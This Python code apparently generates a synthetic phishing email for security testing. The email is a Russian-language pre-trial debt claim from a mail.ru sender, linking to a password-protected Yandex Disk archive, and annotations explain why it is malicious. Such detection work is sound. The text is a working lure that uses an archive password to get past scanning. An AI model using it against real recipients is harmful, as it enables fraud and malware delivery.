@reg(A, "ru", "pretenziya-yandex-disk-link")
def a_pretenziya(k):
    k.when("2026-11-25 09:41:28", "CET")
    mgr = S("ru_mgr")
    rt = k.env("pretenzii.smp@mail.ru", mgr["addr"])
    t_mailru(rt, "188.162.14.90")
    mua_plain(rt, "<%s@f%d.i.mail.ru>" % (digits(k.rng, 16), k.rng.randrange(100, 999)),
              order=["from", "to", "subject", "mime-version", "x-mailer", "reply-to", "date", "message-id",
                     "content"])
    rt.set("X-Mailer", "Mail.Ru Mailer 1.0")
    link = "https://disk.yandex.ru/d/Xq7mB2pLk9RzTw"
    text = """Уважаемые коллеги!

Направляем в Ваш адрес досудебную претензию в связи с неисполнением обязательств по оплате поставленного товара по договору поставки № 57/24-П от 12.03.2024. Сумма задолженности с учётом неустойки составляет 1 486 200 руб. 00 коп.

В случае неудовлетворения претензии в течение 10 (десяти) календарных дней с момента её получения мы будем вынуждены обратиться в Арбитражный суд города Санкт-Петербурга и Ленинградской области с требованием о взыскании задолженности и судебных расходов.

Претензия, акт сверки взаиморасчётов и расчёт неустойки размещены по ссылке (архив защищён паролем 1186 в связи с конфиденциальностью):
%s

С уважением,
юрисконсульт ООО «СеверМедПоставка»
А. И. Гордеев
""" % link
    html = ("<HTML><BODY><div>%s</div></BODY></HTML>" %
            "".join("<p>%s</p>" % esc(b).replace("\n", "<br>") for b in text.strip().split("\n\n"))).replace(
        esc(link), '<a href="%s" target="_blank">%s</a>' % (link, link))
    body = alt(rt, text, html, "UTF-8", "base64", quote_cs=False)
    return finish(k, rt, frm=addr("ООО «СеверМедПоставка»", "pretenzii.smp@mail.ru", "UTF-8", "B"),
                  to=mgr["addr"], subject="Досудебная претензия исх. № 118/ю от 24.11.2026",
                  subj_cs=("UTF-8", "B", None), body=body,
                  what="Pre-trial claim ('досудебная претензия') over RUB 1.49 m from an unknown supplier, documents "
                       "as a password-protected archive on Yandex Disk",
                  why="No contract with this company exists; free-mail sender (mail.ru) for a legal claim; abuses a "
                      "genuine file-hosting service (disk.yandex.ru) plus an archive password to evade scanning – "
                      "malware delivery via legal-threat lure.")
